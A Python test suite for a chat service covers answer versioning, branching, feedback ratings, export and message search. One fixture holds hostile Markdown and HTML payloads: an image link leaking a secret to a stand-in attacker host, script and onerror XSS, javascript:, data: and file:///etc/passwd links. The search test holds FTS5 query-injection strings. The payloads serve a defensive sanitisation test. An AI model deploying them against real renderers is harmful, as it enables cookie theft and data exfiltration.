"""Chats people can keep: regenerated answers kept as versions, edits that branch, thumbs,
message search and export."""

from __future__ import annotations

import json
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from markdown_it import MarkdownIt

from app.services.chat import ChatService, Done
from app.services.chat_export import answer_with_sources, export_json, export_markdown
from app.services.sessions import SessionIndex
from graph.records import SessionPublic
from tests.fakes.chat import FakeChatModel
from tests.test_chat_service import make_service
from tests.ui_parts import side_calls


def scripted(*answers: str) -> FakeChatModel:
    """A model that answers ``answers`` in turn; routing and rewriting are answered aside."""
    llm = FakeChatModel()
    llm.responder = side_calls
    llm.enqueue(*answers)
    return llm


async def _ask(service: ChatService, session: str | None, text: str) -> Done:
    done = await service.start_turn(session, text).result()
    assert isinstance(done, Done)
    return done


async def test_regenerate_keeps_the_earlier_answers_as_versions(tmp_path: Path) -> None:
    llm = scripted(
        "Revenue in the third quarter was 12 million euros [1].",
        "In the third quarter, revenue was 12 million euros [1].",
        "The third quarter's revenue was 12 million euros [1].",
    )
    service = make_service(tmp_path, llm)
    first = await _ask(service, "s", "What was revenue?")
    for _ in range(2):
        done = await (await service.regenerate("s")).result()
        assert isinstance(done, Done)
    messages = await service.messages("s")
    assert [m["role"] for m in messages] == ["user", "assistant"]
    answer = messages[-1]
    assert answer["content"] == "The third quarter's revenue was 12 million euros [1]."
    assert [v["content"] for v in answer["versions"]] == [
        "Revenue in the third quarter was 12 million euros [1].",
        "In the third quarter, revenue was 12 million euros [1].",
    ]
    assert answer["versions"][0]["sources"] == first.sources


async def test_an_edited_question_branches_into_a_new_chat(tmp_path: Path) -> None:
    llm = scripted(
        "Revenue in the third quarter was 12 million euros [1].",
        "In the third quarter, revenue was 12 million euros [1].",
        "The third quarter's revenue was 12 million euros [1].",
    )
    service = make_service(tmp_path, llm)
    await _ask(service, "s", "What was revenue?")
    await _ask(service, "s", "What was the revenue exactly?")
    second = [m for m in await service.messages("s") if m["role"] == "user"][1]
    turn = await service.branch("s", second["id"], "What was third quarter revenue?")
    done = await turn.result()
    assert isinstance(done, Done) and turn.session_id != "s"
    branched = await service.messages(turn.session_id)
    assert [m["content"] for m in branched] == [
        "What was revenue?",
        "Revenue in the third quarter was 12 million euros [1].",
        "What was third quarter revenue?",
        "The third quarter's revenue was 12 million euros [1].",
    ]
    # The original is untouched, and the branch is listed under the chat's title.
    assert [m["content"] for m in await service.messages("s")][2:] == [
        "What was the revenue exactly?",
        "In the third quarter, revenue was 12 million euros [1].",
    ]
    info = service._sessions.get(turn.session_id)
    assert info is not None and info.title == "What was revenue?"


async def test_thumbs_are_kept_in_the_trace_and_exported(tmp_path: Path) -> None:
    llm = scripted("It was 12 million euros [1].")
    service = make_service(tmp_path, llm)
    await _ask(service, "s", "What was revenue?")
    answer = (await service.messages("s"))[-1]
    assert "feedback" not in answer
    assert await service.rate("s", answer["id"], "down")
    rated = (await service.messages("s"))[-1]
    assert rated["feedback"] == "down" and rated["trace"]["feedback"] == "down"
    assert rated["trace"]["route"] == "rag"  # the rest of the trace is kept
    assert not await service.rate("s", "no-such-message", "up")
    exported = await service.export("s", "json")
    assert exported is not None
    name, text = exported
    assert name == "What was revenue.json"
    document = json.loads(text)
    assert document["messages"][-1]["trace"]["feedback"] == "down"
    markdown = await service.export("s", "markdown")
    assert markdown is not None and "Rated: 👎 not helpful" in markdown[1]


async def test_markdown_export_gives_questions_answers_and_sources(tmp_path: Path) -> None:
    llm = scripted("It was 12 million euros [1].")
    service = make_service(tmp_path, llm)
    await _ask(service, "s", "What was revenue?")
    exported = await service.export("s", "markdown")
    assert exported is not None
    name, text = exported
    assert name == "What was revenue.md"
    assert text.startswith("# What was revenue?\n")
    assert "## Question\n\nWhat was revenue?" in text
    assert "## Answer\n\nIt was 12 million euros [1].\n\nSources:\n- [1] q3.pdf, p. 4" in text
    assert await service.export("nobody", "markdown") is None


def test_copy_puts_the_sources_under_the_answer() -> None:
    sources = [{"n": 1, "file": "q3.pdf", "path": "reports/q3.pdf", "page": 4}]
    assert answer_with_sources("Twelve [1].", sources) == (
        "Twelve [1].\n\nSources:\n- [1] q3.pdf, p. 4 (reports/q3.pdf)"
    )
    assert answer_with_sources("Hello.", []) == "Hello."


def test_earlier_versions_are_in_the_markdown() -> None:
    info = SessionPublic("s", "Revenue", "2026-01-01", "2026-01-01")
    answer = {
        "role": "assistant",
        "content": "Second.",
        "sources": [],
        "versions": [{"content": "First.", "sources": []}],
    }
    text = export_markdown(info, [{"role": "user", "content": "Q?"}, answer])
    assert "### Earlier answer 1 of 2\n\nFirst." in text
    assert "## Answer (2 of 2)\n\nSecond." in text


LIVE_QUESTION = (
    "What about ![x](http://evil.example/leak.png?q=SECRET) and <img src=x onerror=alert(1)>?"
)
LIVE_ANSWER = (
    "<script>alert(document.cookie)</script> Read [click](javascript:alert(1)) or "
    '<iframe src="http://evil.example/frame"></iframe>, and [here](https://example.org/ok).\n\n'
    "> ![a quoted](http://evil.example/quoted.png) [as data](DATA:text/html,x)\n\n"
    "<div>\n<img src=http://evil.example/block.png>\n</div>\n\n"
    "| file | note |\n|---|---|\n"
    "| ![cell](http://evil.example/cell.png) | [f](file:///etc/passwd) |\n\n"
    "Keep `![code](http://example.org/c.png)` as code."
)


class Previewer(MarkdownIt):
    """A careless Markdown previewer: raw HTML on, tables on, any link followed."""

    def validateLink(self, url: str) -> bool:
        return True


class Elements(HTMLParser):
    """Every element of an HTML page, with its attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def previewed(text: str) -> str:
    return str(Previewer("commonmark", {"html": True}).enable(["table"]).render(text))


INERT_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "blockquote", "code", "pre", "strong", "em"}
INERT_TAGS |= {"a", "table", "thead", "tbody", "tr", "th", "td"}


def test_the_markdown_export_carries_nothing_a_previewer_would_fetch_or_run() -> None:
    info = SessionPublic("s", LIVE_QUESTION, "2026-01-01", "2026-01-01")
    answer = {"role": "assistant", "content": LIVE_ANSWER, "sources": [], "versions": []}
    messages: list[dict[str, Any]] = [{"role": "user", "content": LIVE_QUESTION}, answer]
    text = export_markdown(info, messages)
    html = previewed(text)
    elements = Elements(html).found
    assert {tag for tag, _ in elements} <= INERT_TAGS  # no img, script, iframe, div
    links = [attrs for tag, attrs in elements if tag == "a"]
    assert links == [{"href": "https://example.org/ok"}]  # no javascript:, data:, file:
    # What was said is still there to read, as text.
    assert "image: x (`http://evil.example/leak.png?q=SECRET`)" in text
    assert "image: cell (`http://evil.example/cell.png`)" in text
    assert "&lt;script&gt;alert(document.cookie)&lt;/script&gt;" in html
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "Read click or" in text and "as data" in text
    assert '<a href="https://example.org/ok">here</a>' in html  # other links stay links
    assert "Keep `![code](http://example.org/c.png)` as code." in text  # code is untouched
    # The JSON export keeps every text as it was said.
    kept = json.loads(export_json(info, messages))
    assert [m["content"] for m in kept["messages"]] == [LIVE_QUESTION, LIVE_ANSWER]


def test_search_finds_words_of_the_messages(tmp_path: Path) -> None:
    index = SessionIndex(tmp_path / "docent.db")
    index.touch("a", "Budget")
    index.add_text("a", "What did the café cost?", "The invoices say 40 euros.")
    index.touch("b", "Holidays")
    index.add_text("b", "Where did we go?", "To the coast.")
    assert [s.id for s in index.search("invoice")] == ["a"]  # a prefix of a word
    assert [s.id for s in index.search("cafe euros")] == ["a"]  # every word, any accent
    assert [s.id for s in index.search("holi")] == ["b"]  # titles as before
    assert index.search('coast" OR "x') == []  # FTS5 syntax is read as words
    assert index.search("coast NEAR") == []
    assert [s.id for s in index.search("coast")] == ["b"]
    index.delete("b")
    assert index.search("coast") == []
